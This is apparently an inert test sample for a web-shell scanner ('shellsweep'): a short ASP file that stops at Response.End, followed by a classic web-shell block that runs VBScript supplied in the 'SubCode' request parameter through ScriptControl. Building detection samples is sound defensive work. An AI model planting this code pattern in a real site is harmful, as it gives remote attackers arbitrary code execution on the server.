<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set o = Server.CreateObject("ScriptControl")
o.Language = "vbscript"
o.AddCode(Request("SubCode"))
o.Run "e", Server, Response, Request
%>
